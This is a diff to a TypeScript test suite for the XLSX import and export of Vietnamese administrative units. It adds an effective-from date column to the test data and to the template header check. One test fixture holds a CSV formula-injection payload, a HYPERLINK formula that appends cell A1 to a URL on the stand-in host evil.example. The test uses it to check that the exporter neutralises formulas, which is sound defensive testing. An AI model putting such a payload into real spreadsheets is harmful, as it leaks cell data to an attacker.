@@ -210,9 +210,10 @@ describe('the XLSX exports', () => {
   it('imports over HTTP and exports a formula-like name as text that no spreadsheet runs', async () => {
     const evil = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")';
     const csv = [
-      'Mã đơn vị,Tên đơn vị,Loại đơn vị,Mã địa bàn,Cấp quản lý,Thuộc lực lượng vũ trang,Quy mô doanh nghiệp,Cấp học',
-      `DN-QB-LT-1,"${evil.replace(/"/g, '""')}",DN,QB-LT,Cấp tỉnh,,Lớn,`,
-      'DN-QB-LT-2,+84 912 345 678,DN,QB-LT,Cấp tỉnh,,Vừa,',
+      // dated units: they exist from 2020, so the 2021 export lists them
+      'Mã đơn vị,Tên đơn vị,Loại đơn vị,Mã địa bàn,Cấp quản lý,Thuộc lực lượng vũ trang,Quy mô doanh nghiệp,Cấp học,Hiệu lực từ ngày',
+      `DN-QB-LT-1,"${evil.replace(/"/g, '""')}",DN,QB-LT,Cấp tỉnh,,Lớn,,01/01/2020`,
+      'DN-QB-LT-2,+84 912 345 678,DN,QB-LT,Cấp tỉnh,,Vừa,,01/01/2020',
     ].join('\r\n');
     const areas = 'Mã địa bàn,Tên địa bàn,Loại địa bàn,Mã địa bàn cấp trên,Hiệu lực từ ngày\nQB-LT,Lệ Thủy,Huyện,QB,01/01/2000\n';
     const base64 = (text: string) => Buffer.from(`\uFEFF${text}`).toString('base64');
@@ -253,6 +254,7 @@ describe('the import template', () => {
       'Thuộc lực lượng vũ trang',
       'Quy mô doanh nghiệp',
       'Cấp học',
+      'Hiệu lực từ ngày',
     ]);
     const instructions = rowsOf(workbook.getWorksheet('Hướng dẫn')!);
     expect(instructions.some((r) => r[0] === 'KDC-QB-BD-QMOI-1' && r[1] === 'Thôn Tây Bắc')).toBe(true);
